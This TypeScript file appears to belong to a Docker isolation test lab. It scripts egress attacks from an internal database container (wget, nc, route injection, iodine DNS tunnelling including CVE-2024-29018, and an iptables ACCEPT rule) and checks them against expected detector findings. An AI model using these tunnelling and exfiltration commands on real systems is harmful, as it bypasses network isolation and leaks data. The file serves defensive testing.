/**
 * What an intruder in the database does to get out of its internal network. Real programs, in the container itself;
 * each attack is bounded in time, leaves the container as it was, and tells what it achieved.
 */
import { mkdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { bring, SHOP } from './app.ts';
import { addProgram } from './images.ts';
import {
  OTHER_TUNNEL_DOMAIN,
  OTHER_TUNNEL_ZONE,
  startTunnelServer,
  TUNNEL_ADDRESS,
  TUNNEL_PASSWORD,
  TUNNEL_PORT,
  TUNNEL_ZONE,
} from './internet.ts';
import type { Lab } from './lab.ts';
import { type RunResult, waitFor } from './run.ts';
import { HOST_ADDRESS, INTERNET } from './world.ts';

export interface Attack {
  readonly id: string;
  /** One line: what the intruder does. */
  readonly title: string;
  /** One or two sentences for the reader of a narration. */
  readonly story: string;
  /** The findings that an observer owes for it, of the database. */
  readonly expect: readonly ExpectedFinding[];
  run(lab: Lab): Promise<AttackOutcome>;
}

export interface ExpectedFinding {
  readonly analyzer: string;
  /** Where the analyzer has several. */
  readonly message?: string;
  /** What its explanation names, where an earlier attack brings the same finding of something else. */
  readonly about?: string;
}

export interface AttackOutcome {
  /** Whether the intruder got an answer from where he should not. */
  readonly answered: boolean;
  /** What he saw, in one line. */
  readonly saw: string;
  /** This engine does not have the weakness: nothing was done, and nothing is owed. */
  readonly closed?: true;
}

const { database, dataNetwork } = SHOP;
const TARGET = INTERNET.web.v4;

function egress(message: string): { analyzer: string; message: string } {
  return { analyzer: 'internal-egress', message };
}

export const straight: Attack = {
  id: 'straight',
  title: 'the database connects to an address on the internet',
  story: `It simply tries: a TCP connection to port 80 and one ping of ${TARGET}. An engine before 25 gives internal
containers a default route, so the packets cross the bridge and die in the FORWARD chain.`,
  expect: [egress('attempted-on-the-wire')],
  async run(lab) {
    const web = await inDatabase(lab, ['timeout', '2', 'wget', '-q', '-O-', `http://${TARGET}/`]);
    const ping = await inDatabase(lab, ['ping', '-c', '1', '-W', '1', TARGET]);
    return outcome(web.code === 0 || ping.code === 0, web);
  },
};

export const overIpv6: Attack = {
  id: 'over-ipv6',
  title: 'the database tries the same over IPv6',
  story: `The data network has IPv6 too, and whoever thought of the firewall may have thought of IPv4 only. Here the
engine keeps its rules for both.`,
  expect: [egress('attempted-on-the-wire')],
  async run(lab) {
    const target = INTERNET.web.v6;
    const web = await inDatabase(lab, ['timeout', '3', 'nc', '-w', '3', target, '80']);
    return outcome(web.code === 0, web);
  },
};

export const addedRoute: Attack = {
  id: 'added-route',
  title: 'the database gives itself a route and tries again',
  story: `With NET_ADMIN it adds a host route over the gateway: what it would need on an engine of 25 or later, where
internal containers get no default route.`,
  expect: [egress('attempted-on-the-wire')],
  async run(lab) {
    const target = INTERNET.attacker.v4;
    return withoutDefaultRoute(lab, async () => {
      await inDatabase(lab, ['ip', 'route', 'add', `${target}/32`, 'via', dataNetwork.gateway], 0);
      try {
        const answer = await inDatabase(lab, ['nc', '-w', '2', target, '443']);
        return outcome(answer.code === 0, answer);
      } finally {
        await inDatabase(lab, ['ip', 'route', 'delete', `${target}/32`]);
      }
    });
  },
};

export const noRoute: Attack = {
  id: 'no-route',
  title: 'the database tries where there is no route',
  story: `The default route is taken away, as an engine of 25 or later never gives one. Now connect() fails at once and
not one packet appears; only the kernel's OutNoRoutes counter of this container moves.`,
  expect: [egress('attempted-without-route')],
  async run(lab) {
    return withoutDefaultRoute(lab, async () => {
      let last: RunResult | undefined;
      for (let n = 0; n < 3; n++) last = await inDatabase(lab, ['nc', '-w', '1', TARGET, '443']);
      return outcome(last?.code === 0, last);
    });
  },
};

export const viaGateway: Attack = {
  id: 'via-gateway',
  title: 'the database reaches a service of the host at its gateway address',
  story: `The gateway of an internal network is the host itself, and Docker does not fence it off: whatever listens
there on every address is in reach.`,
  expect: [egress('reached-host')],
  async run(lab) {
    const url = `http://${dataNetwork.gateway}:${SHOP.hostServicePort}/metrics`;
    const answer = await inDatabase(lab, ['timeout', '2', 'wget', '-q', '-O', '/dev/null', url]);
    return outcome(answer.code === 0, answer, `read ${url}`);
  },
};

/** How much goes through the tunnel: enough for many thousand bytes in names, little enough for a few seconds. */
const TUNNEL_BYTES = 100_000;

export const dnsTunnel: Attack = {
  id: 'dns-tunnel',
  title: `the database tunnels ${TUNNEL_BYTES / 1000} kB out in DNS names, through the resolver of the host`,
  story: `iodine speaks only to the host's resolver at the gateway; the resolver passes the questions on to the name
server of ${TUNNEL_ZONE}, which is the attacker's. No packet of the database ever leaves the internal network.`,
  expect: [{ analyzer: 'dns-tunnel' }, { analyzer: 'dns-bypass' }, egress('reached-host')],
  run: (lab) => tunnelOut(lab, TUNNEL_ZONE, dataNetwork.gateway),
};

export const CLOSED = 'this engine takes no outside names from internal networks';

export const dnsTunnelEmbedded: Attack = {
  id: 'dns-tunnel-embedded',
  title: `the database tunnels ${TUNNEL_BYTES / 1000} kB out through 127.0.0.11, Docker's own resolver`,
  story: `Engines before 23.0.11, 25.0.5 and 26.0 take outside names from internal containers too (CVE-2024-29018), and where
the host's resolv.conf names a loopback address they ask on from the host: no packet of it crosses any bridge.`,
  expect: [
    { analyzer: 'dns-tunnel', about: OTHER_TUNNEL_DOMAIN },
    { analyzer: 'dns-internal-leak', about: OTHER_TUNNEL_DOMAIN },
  ],
  async run(lab) {
    const probe = await inDatabase(lab, ['nslookup', OTHER_TUNNEL_DOMAIN, '127.0.0.11']);
    if (!probe.stdout.includes(INTERNET.attacker.v4)) {
      return { answered: false, saw: CLOSED, closed: true };
    }
    return tunnelOut(lab, OTHER_TUNNEL_ZONE, '127.0.0.11');
  },
};

async function tunnelOut(lab: Lab, zone: string, nameserver: string): Promise<AttackOutcome> {
  const servers = await startTunnelServer(lab, { zone });
  const client = ['iodine', '-f', '-r', '-P', TUNNEL_PASSWORD, nameserver, zone];
  try {
    await bringIodine(lab);
    await lab.docker(['exec', '-d', database, 'timeout', '60', ...client]);
    await waitFor('the tunnel to stand', async () => {
      const ping = await inDatabase(lab, ['ping', '-c', '1', '-W', '2', TUNNEL_ADDRESS]);
      return ping.code === 0;
    });
    const upload = `dd if=/dev/urandom bs=${TUNNEL_BYTES} count=1 2>/dev/null | nc -w 5 ${TUNNEL_ADDRESS} ${TUNNEL_PORT}`;
    const answer = await inDatabase(lab, ['timeout', '25', 'sh', '-c', upload]);
    const received = Number(answer.stdout);
    return outcome(received > 0, answer, `${received} bytes came out`);
  } finally {
    await inDatabase(lab, ['sh', '-c', 'kill $(pidof iodine)']);
    for (const server of servers) await server.stop('SIGKILL');
  }
}

export const isolationBroken: Attack = {
  id: 'isolation-broken',
  title: 'somebody broke the isolation, and the database gets out',
  story: `One careless \`iptables -I DOCKER-USER -j ACCEPT\` on the host comes before Docker's own rules. The same
connection as in the first attack now brings an answer.`,
  expect: [egress('succeeded')],
  async run(lab) {
    const rule = ['DOCKER-USER', '-j', 'ACCEPT'];
    const back = [dataNetwork.subnet, 'via', HOST_ADDRESS];
    await lab.exec('host', ['iptables', '-w', '-I', ...rule]);
    await lab.exec('wan', ['ip', 'route', 'add', ...back]);
    try {
      const answer = await inDatabase(lab, ['timeout', '3', 'wget', '-q', '-O-', `http://${TARGET}/`]);
      return outcome(answer.code === 0, answer, `the page: ${JSON.stringify(answer.stdout.trim())}`);
    } finally {
      await lab.exec('wan', ['ip', 'route', 'delete', ...back]);
      await lab.exec('host', ['iptables', '-w', '-D', ...rule]);
    }
  },
};

export const ATTACKS: readonly Attack[] = [
  straight,
  overIpv6,
  addedRoute,
  noRoute,
  viaGateway,
  dnsTunnel,
  dnsTunnelEmbedded,
  isolationBroken,
];

function outcome(answered: boolean, answer: RunResult | undefined, achieved = 'an answer'): AttackOutcome {
  if (answered) return { answered, saw: achieved };
  return { answered, saw: answer?.stderr.trim().split('\n').at(-1) || 'no answer' };
}

/** Runs a command in the database. Any exit code is an answer, unless one is demanded. */
function inDatabase(lab: Lab, argv: readonly string[], demanded?: number): Promise<RunResult> {
  return lab.exec('host', ['docker', 'exec', database, 'timeout', '30', ...argv], {
    accept: demanded === undefined ? 'any' : [demanded],
    timeoutMs: 40_000,
  });
}

/** Engines of 25 and later give an internal container no default route: then there is none to take away or restore. */
async function withoutDefaultRoute<T>(lab: Lab, body: () => Promise<T>): Promise<T> {
  const { stdout } = await inDatabase(lab, ['ip', 'route', 'show', 'default']);
  const hadRoute = stdout.trim() !== '';
  if (hadRoute) await inDatabase(lab, ['ip', 'route', 'delete', 'default'], 0);
  try {
    return await body();
  } finally {
    if (hadRoute) await inDatabase(lab, ['ip', 'route', 'add', 'default', 'via', dataNetwork.gateway], 0);
  }
}

async function bringIodine(lab: Lab): Promise<void> {
  const root = join(lab.dir, 'iodine-root');
  mkdirSync(root);
  await addProgram(root, 'iodine');
  await bring(lab, root, database);
  rmSync(root, { recursive: true });
}
